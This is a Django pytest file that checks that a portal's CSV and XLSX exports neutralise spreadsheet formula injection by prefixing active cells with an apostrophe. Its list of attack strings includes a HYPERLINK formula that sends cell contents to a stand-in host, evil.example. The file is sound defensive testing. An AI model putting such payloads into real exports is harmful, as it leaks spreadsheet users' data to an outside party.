"""One rule for exports: every CSV and XLSX the portal writes is safe to open in a spreadsheet.

Every export is listed in EXPORTS (by URL name); a test walks the URL configuration so that a new export that is
not listed here fails. Each is fed the attack strings and read back: no formula cell, no cell starting with an
active prefix (= + - @ tab CR) unless it is a number.
"""

import csv
import io
from decimal import Decimal, InvalidOperation

import pytest
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from openpyxl import load_workbook

from portal import testing
from portal.core import exports

ATTACKS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "@SUM(1,1)",
    "-2+3",
    "+1",
    "\t=1",
    "\r=1",
]
ACTIVE = ("=", "+", "-", "@", "\t", "\r")


def _hostile_associations(request):
    """Approved associations whose name, district and cluster are the attack strings (SIDBI's drill-down)."""
    for attack in ATTACKS:
        testing.make_association(name=attack, district=attack, cluster_name=attack)
    return request.getfixturevalue("officer"), {}, ATTACKS


def _national(request):
    _hostile_associations(request)
    return request.getfixturevalue("officer"), {}, []


def _pooling(request):
    from portal.pooling import services
    from portal.pooling.tests.conftest import add_member, open_pool

    association, bearer = request.getfixturevalue("association_a"), request.getfixturevalue("bearer_a")
    pool = open_pool(association, bearer, unit="@kg")
    for index, attack in enumerate(ATTACKS):
        member = add_member(association, attack, email=f"hostile{index}@example.in")
        member.full_name = attack
        member.save(update_fields=["full_name"])
        services.commitment_make(pooled_demand=pool, enterprise=member.enterprise, quantity="10", by=member)
    return bearer, {"pk": pool.pk}, ATTACKS


def _research(request):
    from portal.research import services
    from portal.research.models import Question
    from portal.research.tests.conftest import good_answers, make_study, open_study

    association, bearer = request.getfixturevalue("association_a"), request.getfixturevalue("bearer_a")
    member = request.getfixturevalue("member_a")
    study = open_study(make_study(owner=association, by=bearer), bearer)
    # The question's wording is a column heading; the answer a cell.
    Question.objects.filter(study=study, order=5).update(text=ATTACKS[1])
    services.response_submit(study=study, by=member, answers=good_answers(study, q1="No", q5=ATTACKS[0]))
    return bearer, {"pk": study.pk}, ATTACKS[:2]


def _open_data(request):
    _hostile_associations(request)
    return request.getfixturevalue("anonymous_user"), {"table": "states"}, []


def _book_template(request):
    return request.getfixturevalue("bearer_a"), {"slug": request.getfixturevalue("association_a").slug}, []


# URL name -> (formats, how to fill the portal with hostile text; returns who downloads, URL kwargs, and whether
# which attack strings must show up in the file).
EXPORTS = {
    "insights:drilldown_export": (("csv", "xlsx"), _hostile_associations),
    "insights:national_export": (("csv", "xlsx"), _national),
    "insights:open_data_file": (("csv",), _open_data),
    "pooling:export_csv": ((None,), _pooling),
    "pooling:export_xlsx": ((None,), _pooling),
    "research:export": (("csv", "xlsx"), _research),
    "finances:import_template": ((None,), _book_template),
}
CASES = [(name, fmt) for name, (formats, _setup) in EXPORTS.items() for fmt in formats]


@pytest.fixture
def anonymous_user():
    return None


def _is_number(text: str) -> bool:
    try:
        Decimal(text)
    except InvalidOperation:
        return False
    return True


def _cells(response, fmt):
    body = b"".join(response.streaming_content) if response.streaming else response.content
    if fmt == "csv":
        assert body.startswith("\ufeff".encode()), "CSV starts with a byte-order mark so Excel reads UTF-8"
        for row in csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")):
            yield from ((cell, "s") for cell in row)
        return
    workbook = load_workbook(io.BytesIO(body))
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                yield cell.value, cell.data_type


@pytest.mark.parametrize(("name", "fmt"), CASES)
def test_every_export_neutralises_formula_prefixes(request, client_for, anonymous, name, fmt):
    formats, setup = EXPORTS[name]
    user, kwargs, attacks_shown = setup(request)
    if fmt:
        kwargs = {**kwargs, "fmt": fmt}
    url = reverse(name, kwargs=kwargs)
    fmt = fmt or url.rsplit(".", 1)[-1]
    response = (client_for(user) if user else anonymous).get(url)

    assert response.status_code == 200
    assert "attachment" in response["Content-Disposition"]
    texts = []
    for value, data_type in _cells(response, fmt):
        assert data_type != "f", f"a formula cell in {name}: {value!r}"
        if isinstance(value, str):
            texts.append(value)
            assert not value.startswith(ACTIVE) or _is_number(value), f"{name} {fmt}: {value!r}"
    for attack in attacks_shown:
        if fmt == "xlsx":
            attack = attack.replace("\r", "\n")  # XML parsers read a bare CR as a line feed
        assert "'" + attack in texts, f"{name} {fmt} lost {attack!r}"


def _export_route_names(patterns=None, namespace=""):
    for pattern in patterns if patterns is not None else get_resolver().url_patterns:
        if isinstance(pattern, URLResolver):
            inner = f"{namespace}{pattern.namespace}:" if pattern.namespace else namespace
            yield from _export_route_names(pattern.url_patterns, inner)
        elif isinstance(pattern, URLPattern) and pattern.name:
            route = str(pattern.pattern)
            if "export" in route or route.endswith((".csv", ".xlsx")) or "csv" in route or "results." in route:
                yield namespace + pattern.name


def test_every_export_route_is_in_the_table():
    assert set(_export_route_names()) - set(EXPORTS) - set(ARCHIVES) == set()


@pytest.mark.parametrize("value", ATTACKS)
def test_the_writer_prefixes_every_active_cell_in_both_formats(value):
    rows = [[value, 5, Decimal("-2.50")]]
    csv_text = exports.csv_bytes(rows, headers=["a", "b", "c"]).decode("utf-8-sig")
    assert list(csv.reader(io.StringIO(csv_text, newline="")))[1] == ["'" + value, "5", "-2.50"]
    sheet = load_workbook(io.BytesIO(exports.xlsx_bytes(rows, headers=["a", "b", "c"]))).active
    assert sheet["A2"].value == "'" + value.replace("\r", "\n") and sheet["A2"].data_type == "s"
    assert sheet["B2"].value == 5 and sheet["C2"].value == -2.5


@pytest.mark.parametrize(
    ("value", "expected"),
    [("a=b", "a=b"), ("", ""), (Decimal("5"), Decimal("5")), (None, None), ("Sri Murugan Knits", "Sri Murugan Knits")],
)
def test_the_writer_leaves_harmless_values_alone(value, expected):
    assert exports.neutralise(value) == expected


# Exports that are built by the worker into a zip rather than served by the route itself -> the test of the archive.
ARCHIVES = {"privacy:export_request": "test_personal_data_archive_neutralises_formula_prefixes"}


def test_personal_data_archive_neutralises_formula_prefixes(member_a):
    """A person's own data download (DPDP) holds CSVs written by the same writer: a hostile name stays inert."""
    import zipfile

    from portal.privacy import services

    member_a.full_name = ATTACKS[0]
    member_a.save(update_fields=["full_name"])
    archive = zipfile.ZipFile(io.BytesIO(services.export_archive(services.personal_data_of(member_a))))
    names = [name for name in archive.namelist() if name.endswith(".csv")]
    assert names
    texts = []
    for name in names:
        body = archive.read(name)
        assert body.startswith("\ufeff".encode())
        for row in csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")):
            for cell in row:
                texts.append(cell)
                assert not cell.startswith(ACTIVE) or _is_number(cell), f"{name}: {cell!r}"
    assert "'" + ATTACKS[0] in texts


def test_every_export_download_is_a_security_event_naming_who_took_which_file(client_for, officer, association_a):
    from portal.core.models import AuditLog

    response = client_for(officer).get(reverse("insights:drilldown_export", kwargs={"fmt": "xlsx"}))
    assert response.status_code == 200

    event = AuditLog.objects.get(action="security.export")
    assert event.actor == officer
    assert event.data["file"].endswith(".xlsx")


def test_a_refused_export_is_not_recorded_as_one(client_for, member_a):
    from portal.core.models import AuditLog

    response = client_for(member_a).get(reverse("insights:drilldown_export", kwargs={"fmt": "csv"}))
    assert response.status_code in (403, 404)
    assert not AuditLog.objects.filter(action="security.export").exists()
